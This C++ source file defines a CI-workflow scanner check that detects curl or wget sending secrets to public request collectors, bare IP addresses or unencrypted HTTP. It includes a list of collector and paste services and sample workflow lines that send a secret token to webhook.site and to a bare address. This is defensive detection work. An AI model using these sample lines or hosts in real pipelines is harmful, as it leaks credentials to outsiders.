#include <algorithm>
#include <array>

#include "base/strings.h"
#include "scanners/workflows/findings/reporter.h"
#include "scanners/workflows/taint/scripts.h"

namespace assay::workflows::checks {

namespace {

// Where anybody can look at what arrives.
constexpr std::array<std::string_view, 19> kCollectors = {"webhook.site",
                                                          "requestbin",
                                                          "pipedream.net",
                                                          "ngrok",
                                                          "interact.sh",
                                                          "oast.",
                                                          "oastify.com",
                                                          "burpcollab",
                                                          "beeceptor.com",
                                                          "hookbin.com",
                                                          "requestcatcher",
                                                          "transfer.sh",
                                                          "pastebin.com",
                                                          "paste.ee",
                                                          "0x0.st",
                                                          "file.io",
                                                          "discord.com/api/webhooks",
                                                          "api.telegram.org",
                                                          "gist.githubusercontent.com"};

std::string_view host_of(std::string_view url) {
  const std::size_t scheme = url.find("://");
  if (scheme == url.npos) return {};
  url.remove_prefix(scheme + 3);
  return url.substr(0, url.find_first_of("/:?#"));
}

bool is_address(std::string_view host) {
  return !host.empty() && host.find_first_not_of("0123456789.") == host.npos && host.find('.') != host.npos;
}

bool is_local(std::string_view host) { return host == "localhost" || host.starts_with("127.") || host == "0.0.0.0"; }

// Why the host must not have it; empty where that is not known.
std::string_view suspicion(std::string_view url) {
  const std::string_view host = host_of(url);
  if (is_local(host)) return {};
  for (const std::string_view one : kCollectors)
    if (url.find(one) != url.npos) return "where anybody can look at what arrives";
  if (is_address(host)) return "an address without a name";
  if (url.starts_with("http://")) return "without encryption";
  return {};
}

void run(const Subject& subject, Reporter& out) {
  taint::for_each_script(subject.analysis, subject.document, [&](const taint::Where& where, const StepScript& script) {
    const taint::ScriptFlow& flows = subject.analysis.script(where);
    if (flows.words.empty()) return;
    for (const shell::Call& call : script.calls) {
      if (call.name() != "curl" && call.name() != "wget") continue;
      std::string url;
      const taint::Flow* secret = nullptr;
      for (std::size_t i = 1; i < call.from.size(); ++i) {
        const std::string word = text_with_gaps(script.script, call.from[i]);
        if (word.find("://") != std::string::npos && url.empty()) url = word;
        if (secret == nullptr) secret = taint::first_secret(flows.of(call.from[i]), true);
      }
      const std::string_view why = suspicion(url);
      if (secret == nullptr || why.empty()) continue;
      const yaml::Span span = taint::in_file(where, call.span);
      out.report(span,
                 cat("The secret ", quoted(secret->source.name), " is sent to ", quoted(host_of(url)), ", ", why, "."))
          .in(where.job, where.step)
          .flow(*secret, span, "It is sent.");
    }
  });
}

}  // namespace

extern const Check secret_exfiltration = {
    .id = "secret-exfiltration",
    .title = "Secret is sent to a host that must not have it",
    .severity = Severity::high,
    .confidence = Confidence::medium,
    .what =
        "`curl` or `wget` with a secret in its arguments to a service that shows requests to anybody, to a bare "
        "address, "
        "or over HTTP. Other hosts are a matter of policy.",
    .why = "Whoever owns the other end, or listens on the way, has the secret. Stolen tokens leave runners like this.",
    .reproduce = "Read the script: the host is none of the service that the secret is for.",
    .fix = "Delete the request, and change the secret. A request that is meant goes over HTTPS to the service itself.",
    .avoid = "Do not leave it in for debugging: print whether the secret is set, and nothing of it.",
    .references = {"https://attack.mitre.org/techniques/T1567/"},
    .bad = {"- run: curl -d \"t=$T\" https://webhook.site/abc\n  env: {T: '${{ secrets.T }}'}\n",
            "- run: |\n    curl -H \"X: ${{ secrets.T }}\" http://example.org/\n",
            "- run: |\n    wget --header \"X: $T\" https://192.0.2.7/x\n  env: {T: '${{ secrets.T }}'}\n"},
    .good = {"- run: |\n    curl -H \"Authorization: $T\" https://api.example.org/\n  env: {T: '${{ secrets.T }}'}\n",
             "- run: |\n    curl -H \"X: $T\" http://localhost:8080/\n  env: {T: '${{ secrets.T }}'}\n",
             "- run: curl -d ok https://webhook.site/abc\n  env: {T: '${{ secrets.T }}'}\n"},
    .run = run,
};

}  // namespace assay::workflows::checks
